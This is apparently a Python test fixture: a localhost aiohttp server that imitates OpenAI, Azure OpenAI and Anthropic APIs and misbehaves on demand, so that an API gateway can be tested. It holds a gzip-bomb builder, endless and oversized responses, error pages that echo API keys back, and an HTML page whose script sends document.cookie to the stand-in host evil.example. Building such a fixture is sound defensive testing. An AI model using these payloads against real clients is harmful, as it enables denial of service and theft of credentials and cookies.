"""A hostile upstream for tests: an aiohttp server on 127.0.0.1 (ephemeral port), in its own thread.

It speaks just enough of the OpenAI, Azure OpenAI and Anthropic APIs (told apart by the path) to be
pointed at by any provider kind, and misbehaves as the prompt — the text of the last message — asks:

| prompt                   | answer                                                                  |
| ------------------------ | ----------------------------------------------------------------------- |
| `ok`                     | a normal answer (a stream if asked)                                      |
| `redirect:<status>`      | that 3xx, `Location:` the `redirect_to` server (same path)               |
| `error:<status>:json`    | that status, the provider's error JSON quoting the key and header secret |
| `error:<status>:html`    | that status, a `text/html` page with a `<script>`, quoting them          |
| `huge` / `huge:length`   | a 100 MB JSON body, chunked / with its Content-Length                    |
| `bomb`                   | ~1 MB of gzip that inflates to 1 GiB (`content-encoding: gzip`)          |
| `sse:unterminated`       | an event stream that never sends a blank line, as fast as it can         |
| `sse:bad-utf8`           | a stream whose second event holds invalid UTF-8                          |
| `drip`                   | one byte every 50 ms, never ending (an event stream if one was asked)    |
| `stall:<seconds>`        | a normal answer after that wait                                          |

Every request is kept (`requests`: path, headers, prompt), and every error, page and header it
sends quotes the secrets the request carried (`authorization`, `x-api-key`, `api-key` and any
`x-upstream-token`), as a careless proxy or self-hosted server would. Endless answers stop when the
client goes away (or after `MAX_SECONDS`).
"""

from __future__ import annotations

import asyncio
import dataclasses
import json
import struct
import threading
import time
import zlib
from typing import Any

from aiohttp import web

__all__ = ["HostileUpstream", "Received", "gzip_bomb"]

MAX_SECONDS = 30.0
HUGE_BYTES = 100 * 1000 * 1000
_MiB = 1 << 20


@dataclasses.dataclass
class Received:
    path: str
    headers: dict[str, str]
    prompt: str


def gzip_bomb(mebibytes: int = 1024) -> bytes:
    """A gzip member of `mebibytes` MiB of zeros, ~1 KB per MiB: identical, independent deflate
    segments (a full flush between them), so building it takes a fraction of a second."""
    chunk = bytes(_MiB)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(mebibytes):
        crc = zlib.crc32(chunk, crc)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
    return (header + segment * mebibytes + compressor.flush(zlib.Z_FINISH)
            + struct.pack("<II", crc, (mebibytes * _MiB) & 0xFFFFFFFF))


class HostileUpstream:
    def __init__(self, redirect_to: str | None = None) -> None:
        self.redirect_to = redirect_to  # where `redirect:` points (another server's base URL)
        self.requests: list[Received] = []
        self.port = 0
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, name="hostile-upstream", daemon=True)
        self._runner: web.AppRunner | None = None
        self._bomb: bytes | None = None

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}"

    def start(self) -> HostileUpstream:
        self._thread.start()
        asyncio.run_coroutine_threadsafe(self._start(), self._loop).result(10)
        return self

    def stop(self) -> None:
        if self._runner is not None:
            asyncio.run_coroutine_threadsafe(self._runner.cleanup(), self._loop).result(10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)

    def received(self, prompt: str | None = None) -> list[Received]:
        return [r for r in list(self.requests) if prompt is None or r.prompt == prompt]

    async def _start(self) -> None:
        app = web.Application(client_max_size=16 * _MiB)
        app.router.add_route("*", "/{tail:.*}", self._handle)
        self._runner = web.AppRunner(app, access_log=None, handler_cancellation=True)
        await self._runner.setup()
        site = web.TCPSite(self._runner, "127.0.0.1", 0)
        await site.start()
        self.port = self._runner.addresses[0][1]

    # --- the handler ----------------------------------------------------------------------------

    async def _handle(self, request: web.Request) -> web.StreamResponse:
        raw = await request.read()
        try:
            body: Any = json.loads(raw) if raw else {}
        except ValueError:
            body = {}
        prompt = _prompt(body)
        self.requests.append(Received(request.path, dict(request.headers), prompt))
        kind = "anthropic" if request.path.endswith("/messages") else "openai"
        stream = bool(body.get("stream")) if isinstance(body, dict) else False
        name, _, arg = prompt.partition(":")
        if name == "redirect":
            target = f"{self.redirect_to or 'http://127.0.0.1:9'}{request.path_qs}"
            return web.Response(status=int(arg), headers={"location": target})
        if name == "error":
            status, _, form = arg.partition(":")
            return self._error(request, kind, int(status), form)
        if name == "huge":
            return await self._huge(request, with_length=arg == "length")
        if name == "bomb":
            if self._bomb is None:
                self._bomb = gzip_bomb()
            return web.Response(body=self._bomb, headers={"content-type": "application/json",
                                                          "content-encoding": "gzip"})
        if name == "sse" and arg == "unterminated":
            return await self._endless(request, b"data: ", b"a" * (64 * 1024), 0.0, "text/event-stream")
        if name == "sse" and arg == "bad-utf8":
            return await self._bad_utf8(request, kind)
        if name == "drip":
            ctype = "text/event-stream" if stream else "application/json"
            return await self._endless(request, b"", b" ", 0.05, ctype)
        if name == "stall":
            await asyncio.sleep(float(arg or 3))
        return await self._ok(request, kind, stream)

    def _error(self, request: web.Request, kind: str, status: int, form: str) -> web.Response:
        quoted = " / ".join(_secrets_in(request.headers)) or "none"
        echo = {"x-echo-key": quoted, "www-authenticate": f"Bearer realm=\"{quoted}\"", "retry-after": quoted,
                "set-cookie": f"session={quoted}"}
        if form == "html":
            page = (f"<html><head><script>fetch('https://evil.example/?k='+document.cookie)</script></head>"
                    f"<body><h1>{status}</h1><p>The key {quoted} was refused.</p></body></html>")
            return web.Response(status=status, text=page, content_type="text/html", headers=echo)
        message = f"Incorrect API key provided: {quoted}. You can find your API key at https://example.invalid."
        if kind == "anthropic":
            payload: dict[str, Any] = {"type": "error", "error": {"type": f"authentication_error {quoted}",
                                                                  "message": message}}
        else:
            payload = {"error": {"message": message, "type": "invalid_request_error", "param": quoted,
                                 "code": f"invalid_api_key {quoted}"}}
        return web.Response(status=status, text=json.dumps(payload), content_type="application/json", headers=echo)

    async def _huge(self, request: web.Request, *, with_length: bool) -> web.StreamResponse:
        response = web.StreamResponse(headers={"content-type": "application/json"})
        if with_length:
            response.content_length = HUGE_BYTES
        await response.prepare(request)
        head = b'{"id": "chatcmpl-huge", "padding": "'
        block = b"x" * _MiB
        sent = 0
        try:
            await response.write(head)
            sent += len(head)
            while sent + len(block) < HUGE_BYTES:
                await response.write(block)
                sent += len(block)
            await response.write(b"x" * (HUGE_BYTES - sent - 2) + b'"}')
            await response.write_eof()
        except (ConnectionError, RuntimeError):
            pass  # the gateway stopped reading: what it should do
        return response

    async def _endless(self, request: web.Request, head: bytes, block: bytes, interval: float,
                       content_type: str) -> web.StreamResponse:
        response = web.StreamResponse(headers={"content-type": content_type})
        await response.prepare(request)
        deadline = time.monotonic() + MAX_SECONDS
        try:
            await response.write(head)
            while time.monotonic() < deadline:
                await response.write(block)
                await asyncio.sleep(interval)
        except (ConnectionError, RuntimeError):
            pass
        return response

    async def _bad_utf8(self, request: web.Request, kind: str) -> web.StreamResponse:
        response = web.StreamResponse(headers={"content-type": "text/event-stream"})
        await response.prepare(request)
        if kind == "anthropic":
            events = [b"event: message_start\ndata: " + json.dumps(_anthropic_start()).encode() + b"\n\n",
                      b'event: content_block_delta\ndata: {"type":"content_block_delta","index":0,'
                      b'"delta":{"type":"text_delta","text":"\xff\xfe"}}\n\n']
        else:
            events = [b"data: " + json.dumps(_chunk("fine")).encode() + b"\n\n",
                      b'data: {"id":"c","object":"chat.completion.chunk","created":1,"model":"m","choices":'
                      b'[{"index":0,"delta":{"content":"\xff\xfe"},"finish_reason":null}]}\n\n',
                      b"data: [DONE]\n\n"]
        try:
            for event in events:
                await response.write(event)
            await response.write_eof()
        except (ConnectionError, RuntimeError):
            pass
        return response

    async def _ok(self, request: web.Request, kind: str, stream: bool) -> web.StreamResponse:
        if kind == "anthropic":
            if stream:
                return await self._events(request, [
                    ("message_start", _anthropic_start()),
                    ("content_block_start", {"type": "content_block_start", "index": 0,
                                             "content_block": {"type": "text", "text": ""}}),
                    ("content_block_delta", {"type": "content_block_delta", "index": 0,
                                             "delta": {"type": "text_delta", "text": "hello"}}),
                    ("content_block_stop", {"type": "content_block_stop", "index": 0}),
                    ("message_delta", {"type": "message_delta", "delta": {"stop_reason": "end_turn"},
                                       "usage": {"output_tokens": 1}}),
                    ("message_stop", {"type": "message_stop"})])
            return web.json_response({"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-x",
                                      "content": [{"type": "text", "text": "hello"}], "stop_reason": "end_turn",
                                      "usage": {"input_tokens": 1, "output_tokens": 1}})
        if stream:
            return await self._events(request, [(None, _chunk("hello")), (None, None)])
        return web.json_response({"id": "chatcmpl-1", "object": "chat.completion", "created": 1, "model": "m",
                                  "choices": [{"index": 0, "message": {"role": "assistant", "content": "hello"},
                                               "finish_reason": "stop"}],
                                  "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2}})

    async def _events(self, request: web.Request, events: list[tuple[str | None, Any]]) -> web.StreamResponse:
        response = web.StreamResponse(headers={"content-type": "text/event-stream"})
        await response.prepare(request)
        for name, data in events:
            head = f"event: {name}\n".encode() if name else b""
            payload = b"[DONE]" if data is None else json.dumps(data).encode()
            await response.write(head + b"data: " + payload + b"\n\n")
        await response.write_eof()
        return response


def _prompt(body: Any) -> str:
    messages = body.get("messages") if isinstance(body, dict) else None
    if not isinstance(messages, list) or not messages:
        return ""
    content = messages[-1].get("content") if isinstance(messages[-1], dict) else None
    if isinstance(content, list):  # Anthropic blocks
        content = "".join(b.get("text", "") for b in content if isinstance(b, dict))
    return content if isinstance(content, str) else ""


def _secrets_in(headers: Any) -> list[str]:
    found = []
    value = headers.get("authorization", "")
    if value:
        found.append(value.removeprefix("Bearer "))
    for name in ("x-api-key", "api-key", "x-upstream-token"):
        if headers.get(name):
            found.append(headers[name])
    return found


def _chunk(text: str) -> dict[str, Any]:
    return {"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1, "model": "m",
            "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]}


def _anthropic_start() -> dict[str, Any]:
    return {"type": "message_start", "message": {"id": "msg_1", "type": "message", "role": "assistant",
                                                 "model": "claude-x", "content": [], "stop_reason": None,
                                                 "usage": {"input_tokens": 1, "output_tokens": 1}}}
